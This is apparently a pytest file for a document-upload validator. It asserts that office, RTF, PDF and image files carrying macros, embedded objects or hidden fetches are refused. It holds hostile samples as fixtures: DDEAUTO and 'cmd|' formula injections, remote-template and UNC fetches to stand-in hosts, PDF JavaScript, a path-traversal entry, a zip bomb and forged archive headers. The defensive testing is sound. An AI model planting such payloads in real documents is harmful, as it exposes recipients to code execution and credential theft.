"""What a file holds is judged, whatever its name says."""

import warnings
import zipfile
import zlib
from io import BytesIO

import pytest
from PIL import Image

from virage.documents import rules
from virage.documents.rules import (
    FOREIGN,
    MACROS,
    OTHER_NATURE,
    content_fault,
    type_of_file_name,
    warning_of,
)

DOCX = type_of_file_name("a.docx")
XLSX = type_of_file_name("a.xlsx")
ODT = type_of_file_name("a.odt")
WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}
REMOTE_TEMPLATE = (
    b'<r><Relationship Id="rId1" Type="http://schemas.example/relationships/attachedTemplate" '
    b'Target="https://elsewhere.example/a.dotm" TargetMode="External"/></r>'
)
MACRO_TYPE = b'<Types><Override ContentType="application/vnd.ms-word.macroEnabled"/></Types>'
ENTITY = b'<!DOCTYPE r [<!ENTITY e "attachedTemplate">]>' + REMOTE_TEMPLATE.replace(
    b"attached", b"&e;"
)
SETTINGS = "word/_rels/settings.xml.rels"
LINK = REMOTE_TEMPLATE.replace(b"attachedTemplate", b"hyperlink")
TIED_OBJECT = REMOTE_TEMPLATE.replace(b"attachedTemplate", b"oleObject").replace(b"External", b"")
TEXT = {"mimetype": ODT.encode(), "content.xml": b"<office/>"}
MANIFEST = "META-INF/manifest.xml"
PROTECTED = b'<m xmlns:m="urn:m"><m:file-entry><m:encryption-data/></m:file-entry></m>'
HELD = b'<m xmlns:m="urn:m"><m:file-entry m:media-type="application/vnd.sun.star.oleobject"/></m>'


def office(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize(
    ("parts", "content_type"),
    [(WORD, DOCX), (TEXT, ODT), (WORD | {"word/_rels/document.xml.rels": LINK}, DOCX)],
)
def test_an_honest_office_file_is_accepted(parts: dict[str, bytes], content_type: str) -> None:
    assert content_fault(office(parts), content_type) == ""


@pytest.mark.parametrize(
    ("parts", "content_type", "said"),
    [
        (WORD, XLSX, "annonce"),
        (WORD, ODT, "annonce"),
        (TEXT, DOCX, "annonce"),
        ({"a.exe": b"MZ"}, DOCX, "annonce"),
        (WORD | {"word/vbaProject.bin": b"x"}, DOCX, "macros"),
        (TEXT | {"Basic/Standard/Module1.xml": b"x"}, ODT, "macros"),
        (TEXT | {"./Basic/Standard/Module1.xml": b"x"}, ODT, "macros"),
        (
            WORD | {"[Content_Types].xml": MACRO_TYPE},
            DOCX,
            "macros",
        ),
        (WORD | {"word/embeddings/oleObject1.bin": b"x"}, DOCX, "objet incorporé"),
        (WORD | {SETTINGS: TIED_OBJECT, "word/media/a.png": b"x"}, DOCX, "objet incorporé"),
        (TEXT | {MANIFEST: HELD, "Object 1": b"x"}, ODT, "objet incorporé"),
        (TEXT | {MANIFEST: PROTECTED}, ODT, "protégé"),
        (WORD | {SETTINGS: REMOTE_TEMPLATE}, DOCX, "chercher ailleurs"),
        (WORD | {SETTINGS: REMOTE_TEMPLATE.replace(b'"', b"'")}, DOCX, "chercher ailleurs"),
        (
            WORD | {SETTINGS: REMOTE_TEMPLATE.decode().encode("utf-16")},
            DOCX,
            "chercher ailleurs",
        ),
        (
            WORD | {SETTINGS: REMOTE_TEMPLATE.replace(b"Temp", b"&#84;emp")},
            DOCX,
            "chercher ailleurs",
        ),
        (WORD | {SETTINGS: ENTITY}, DOCX, "abîmé"),
        (WORD | {"../../etc/cron.d/a": b"x"}, DOCX, "abîmé"),
        (WORD | {"word\\vbaProject.bin": b"x"}, DOCX, "macros"),
        (WORD | {"word/embeddings/tableau.xlsm": b"PK"}, DOCX, "macros"),
        (WORD | {"word/media/a": bytes(301 * 10**6)}, DOCX, "déplie"),
    ],
    ids=[
        "docx-as-xlsx",
        "docx-as-odt",
        "odt-as-docx",
        "zip",
        "vba",
        "basic",
        "hidden-basic",
        "type",
        "ole",
        "ole-other-name",
        "odt-ole",
        "odt-password",
        "template",
        "template-single-quotes",
        "template-utf16",
        "template-letter-code",
        "template-entity",
        "path",
        "backslash",
        "embedded-macros",
        "bomb",
    ],
)
def test_a_dishonest_one_is_refused(parts: dict[str, bytes], content_type: str, said: str) -> None:
    assert said in content_fault(office(parts), content_type)


def test_many_parts_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rules, "MAX_PARTS", 10)
    many = WORD | {f"word/{rank}": b"" for rank in range(10)}
    assert "déplie" in content_fault(office(many), DOCX)


@pytest.mark.parametrize("cut", [4, 30, -1])
def test_a_damaged_one_is_refused(cut: int) -> None:
    assert "abîmé" in content_fault(office(WORD)[:cut], DOCX)


def test_a_part_that_is_not_what_the_archive_says_refuses_all_of_it() -> None:
    parts = WORD | {"word/media/a.xml": b"longer than it says"}
    stored = office(parts)
    entry = stored.rindex(b"PK\x01\x02")
    length, flags = entry + 24, entry + 8
    shorter = stored[:length] + (3).to_bytes(4, "little") + stored[length + 4 :]
    locked = stored[:flags] + b"\x01" + stored[flags + 1 :]
    assert content_fault(stored, DOCX) == ""
    assert "abîmé" in content_fault(shorter, DOCX)
    assert "protégé" in content_fault(locked, DOCX)


def test_macros_of_an_old_office_file_are_refused() -> None:
    honest = rules.OLE[0] + bytes(100) + "WordDocument".encode("utf-16-le")
    assert content_fault(honest, "application/msword") == ""
    assert content_fault(honest, "application/vnd.ms-excel") == OTHER_NATURE
    assert content_fault(rules.OLE[0] + bytes(100), "application/msword") == OTHER_NATURE
    macros, held = ("_VBA_PROJECT".encode("utf-16-le"), "\x01Ole10Native".encode("utf-16-le"))
    assert content_fault(honest + macros, "application/msword") == MACROS
    assert content_fault(honest + held, "application/msword") == FOREIGN


def test_a_pdf_that_runs_code_is_accepted_with_a_warning() -> None:
    active = b"%PDF-1.7 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
    assert content_fault(active, "application/pdf") == ""
    assert "prudence" in warning_of(active, "application/pdf")
    assert "prudence" in warning_of(active.replace(b"/Java", b"/J#61va"), "application/pdf")
    assert warning_of(b"%PDF-1.7 /JSON", "application/pdf") == ""


def test_an_object_in_an_rtf_is_refused() -> None:
    assert content_fault(rb"{\rtf1 bonjour}", "application/rtf") == ""
    assert (
        content_fault(rb"{\rtf1 {\object\objupdate{\*\objdata 01}}}", "application/rtf") == FOREIGN
    )
    fetched = rb"{\rtf1 {\*\template https://elsewhere.example/a.dotm}}"
    assert content_fault(fetched, "application/rtf") == FOREIGN
    own = rb"{\rtf1 {\*\template Normal.dotm}}"
    assert content_fault(own, "application/rtf") == ""


def picture(side: int, image_format: str = "PNG") -> bytes:
    out = BytesIO()
    Image.new("1", (side, side)).save(out, image_format)
    return out.getvalue()


@pytest.mark.parametrize("image_format", ["PNG", "JPEG", "GIF", "TIFF"])
def test_a_picture_is_accepted_and_only_a_picture(image_format: str) -> None:
    content_type = next(kind for kind, name in rules.IMAGES.items() if name == image_format)
    honest = picture(8, image_format)
    assert content_fault(honest, content_type) == ""
    beginning = rules.ACCEPTED[content_type].beginnings[0]
    assert content_fault(beginning + b"=1;alert(1)//", content_type) == OTHER_NATURE


@pytest.mark.parametrize("side", [9_000, 12_000, 30_000])
def test_a_picture_too_large_to_be_opened_is_refused(side: int) -> None:
    # A header alone: what says its size is read, and nothing is unfolded.
    small = picture(8)
    large = small.replace((8).to_bytes(4) * 2, side.to_bytes(4) * 2)
    header = large[12:29]
    large = large.replace(small[29:33], zlib.crc32(header).to_bytes(4), 1)
    assert content_fault(large, "image/png") == rules.TOO_MANY_PIXELS


@pytest.mark.parametrize("kind", ["a.pdf", "a.txt", "a.png", "a.rtf"])
def test_two_files_in_one_are_refused(kind: str) -> None:
    first = {".pdf": b"%PDF-1.7 ", ".txt": b"bonjour ", ".png": picture(8), ".rtf": b"{\\rtf1 a}"}
    content = first[kind[1:]] + office(WORD)
    assert content_fault(content, type_of_file_name(kind)) == OTHER_NATURE


def test_what_comes_before_an_office_file_refuses_it() -> None:
    assert content_fault(b"PK\x03\x04 a" + office(WORD), DOCX) == OTHER_NATURE
    twice = BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(twice, "w") as archive:
            for name, content in [*WORD.items(), ("word/document.xml", b"<other/>")]:
                archive.writestr(name, content)
    assert "abîmé" in content_fault(twice.getvalue(), DOCX)


CHUNK_TIE = b'<r><Relationship Type="http://schemas.example/aFChunk" Target="a.rtf"/></r>'
OBJECT_TIE = b'<r><Relationship Type="http://schemas.example/oleObject" Target="media/x.bin"/></r>'
LOCKED = b'<m><file-entry full-path="content.xml"><encryption-data/></file-entry></m>'
OLD_OBJECT = b'<m><file-entry media-type="application/vnd.sun.star.oleobject"/></m>'


@pytest.mark.parametrize(
    ("parts", "content_type", "said"),
    [
        (WORD | {"word/_rels/document.xml.rels": OBJECT_TIE}, DOCX, "objet incorporé"),
        (WORD | {"word/_rels/document.xml.rels": CHUNK_TIE}, DOCX, "objet incorporé"),
        (TEXT | {"META-INF/manifest.xml": OLD_OBJECT}, ODT, "objet incorporé"),
        (TEXT | {"META-INF/manifest.xml": LOCKED}, ODT, "protégé"),
    ],
)
def test_an_object_under_another_name_and_a_password_are_seen(
    parts: dict[str, bytes], content_type: str, said: str
) -> None:
    assert said in content_fault(office(parts), content_type)


def directory_entry(content: bytes, name: bytes) -> int:
    """Where the directory of an archive tells of a part."""
    return content.rindex(name) - 46


def test_a_part_that_is_not_what_the_directory_says_is_refused() -> None:
    large = office(WORD | {"word/large.xml": b" " * 2_000_000})
    lying = bytearray(large)
    entry = directory_entry(large, b"word/large.xml")
    lying[entry + 16 : entry + 20] = zlib.crc32(b" " * 100).to_bytes(4, "little")
    lying[entry + 24 : entry + 28] = (100).to_bytes(4, "little")
    assert content_fault(large, DOCX) == ""
    assert content_fault(bytes(lying), DOCX) == rules.DAMAGED
    protected = bytearray(large)
    protected[entry + 8] |= 1
    assert content_fault(bytes(protected), DOCX) == rules.DAMAGED
    altered = bytearray(large)
    altered[entry + 16] ^= 1
    assert content_fault(bytes(altered), DOCX) == rules.DAMAGED


def tie(kind: str, target: str) -> bytes:
    """One relationship to what is outside the file."""
    said = f'Type="http://schemas.example/{kind}" Target="{target}" TargetMode="External"'
    return f"<r><Relationship {said}/></r>".encode()


def word(body: str) -> dict[str, bytes]:
    return WORD | {"word/document.xml": f'<d xmlns:w="urn:w">{body}</d>'.encode()}


def field(*runs: str) -> str:
    said = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:fldChar w:fldCharType="begin"/>{said}<w:fldChar w:fldCharType="end"/>'


def workbook(formula: str) -> dict[str, bytes]:
    return SHEET | {"xl/worksheets/sheet1.xml": f"<c><f>{formula}</f></c>".encode()}


def open_document(element: str) -> dict[str, bytes]:
    base = "urn:oasis:names:tc:opendocument:xmlns"
    spaces = f'xmlns:t="{base}:text:1.0" xmlns:x="http://www.w3.org/1999/xlink"'
    return TEXT | {"content.xml": f"<t:b {spaces}>{element}</t:b>".encode()}


SHEET = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"}
DDE = word(field(r"DDEAUTO c:\\\\cmd.exe &quot;/c calc&quot;"))
DTD = b'<!DOCTYPE d [<!ENTITY e "x">]>'


@pytest.mark.parametrize(
    ("parts", "content_type"),
    [
        (DDE, DOCX),
        (word(field(" d", "DE", "AUTO cmd")), DOCX),
        (word('<w:fldSimple w:instr="DDE cmd a"/>'), DOCX),
        (word(field(r"INCLUDEPICTURE &quot;\\\\\\\\a.example\\\\b.png&quot;")), DOCX),
        (WORD | {"word/a.xml": DDE["word/document.xml"].decode().encode("utf-16")}, DOCX),
        (WORD | {"word/header1.part": DDE["word/document.xml"]}, DOCX),
        (WORD | {"word/document.xml": DTD + DDE["word/document.xml"]}, DOCX),
        (
            WORD | {"word/_rels/document.xml.rels": tie("image", "file://\\\\a.example\\b.png")},
            DOCX,
        ),
        (WORD | {"word/_rels/document.xml.rels": tie("image", "https://a.example/b.png")}, DOCX),
        (
            SHEET | {"xl/externalLinks/externalLink1.xml": b"<e><ddeLink ddeService='cmd'/></e>"},
            XLSX,
        ),
        (
            SHEET | {"xl/externalLinks/_rels/a.xml.rels": tie("externalLinkPath", "//a/b.xlsx")},
            XLSX,
        ),
        (
            word(
                '<w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE </w:instrText>'
                + field("QUOTE &quot;https://a.example/&quot;")
                + '<w:fldChar w:fldCharType="end"/>'
            ),
            DOCX,
        ),
        (SHEET | {"xl/connections.xml": b"<connections/>"}, XLSX),
        (workbook("_xlfn.WEBSERVICE(A1)"), XLSX),
        (workbook("_xlfn.IMAGE(A1)"), XLSX),
        (workbook("cmd|&apos;/c calc&apos;!A0"), XLSX),
        (open_document("<t:c t:formula='of:=DDE(&quot;soffice&quot;;A1;A2)'/>"), ODT),
        (open_document('<t:section-source x:href="https://a.example/b.odt"/>'), ODT),
        (open_document('<t:section-source x:href="\\\\a.example\\b.odt"/>'), ODT),
        (open_document("<t:dde-connection-decl/>"), ODT),
        (open_document('<t:event-listener x:href="vnd.sun.star.script:a.b?language=x"/>'), ODT),
        (open_document('<t:template x:href="https://a.example/Lettre.ott"/>'), ODT),
        (open_document('<t:template x:href="file:////a.example/b/Lettre.ott"/>'), ODT),
        (WORD | {SETTINGS: tie("attachedTemplate", "file:///\\\\a.example\\b\\Lettre.dotx")}, DOCX),
        (WORD | {SETTINGS: tie("image", "file:///C:\\a.png")}, DOCX),
    ],
)
def test_what_is_fetched_or_run_at_opening_is_refused(
    parts: dict[str, bytes], content_type: str
) -> None:
    assert content_fault(office(parts), content_type) == FOREIGN


@pytest.mark.parametrize(
    ("parts", "content_type"),
    [
        (word(field("PAGE") + field("HYPERLINK &quot;https://a.example/link//b&quot;")), DOCX),
        (word("<w:t>DDEAUTO cmd</w:t>" + field("DATE \\@ &quot;d/M/yyyy&quot;")), DOCX),
        (WORD | {"word/_rels/document.xml.rels": tie("hyperlink", "https://a.example/")}, DOCX),
        (WORD | {"word/vmlDrawing1.vml": b"<xml><br></xml>"}, DOCX),
        (SHEET | {"xl/sharedStrings.xml": b"<s>ddelink WEBSERVICE(a)</s>"}, XLSX),
        (workbook("SUM(A1:A3)|B1"), XLSX),
        (open_document('<t:a x:href="https://a.example/">a</t:a>'), ODT),
        (open_document('<t:image x:href="Pictures/a.png"/>'), ODT),
        (open_document('<t:template x:href="file:///C:/Modeles/Lettre.ott"/>'), ODT),
        (WORD | {SETTINGS: tie("attachedTemplate", "file:///C:\\Modeles\\Lettre.dotx")}, DOCX),
    ],
)
def test_a_link_that_waits_to_be_clicked_is_kept(
    parts: dict[str, bytes], content_type: str
) -> None:
    assert content_fault(office(parts), content_type) == ""


@pytest.mark.parametrize(
    "said",
    [
        rb"DDEAUTO c:\\\\cmd.exe a",
        rb"{\rtlch DDE}{AUTO }cmd a",
        rb"\'44\u68?E cmd a",
        rb'INCLUDEPICTURE "\\\\\\\\a.example\\\\b.png"',
        rb"\bin3 DDE cmd a",
    ],
)
def test_a_field_of_an_rtf_is_judged_as_it_is_read(said: bytes) -> None:
    inside = rb"{\rtf1 {\field{\*\fldinst {" + said + rb"}}{\fldrslt a}}}"
    assert content_fault(inside, "application/rtf") == FOREIGN
    link = rb'{\rtf1 {\field{\*\fldinst {HYPERLINK "https://a.example/"}}{\fldrslt a}} DDEAUTO}'
    assert content_fault(link, "application/rtf") == ""
